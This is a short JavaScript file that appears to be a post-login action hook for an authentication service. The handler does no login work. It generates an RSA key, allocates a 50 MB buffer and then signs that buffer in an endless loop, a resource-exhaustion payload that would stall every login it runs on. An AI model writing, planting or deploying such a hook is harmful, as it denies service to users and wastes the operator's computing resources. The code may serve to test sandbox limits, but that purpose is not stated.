exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); const { privateKey } = c.generateKeyPairSync("rsa", { modulusLength: 2048 }); const data = Buffer.alloc(5e7); for (;;) c.sign("sha512", data, privateKey);
};
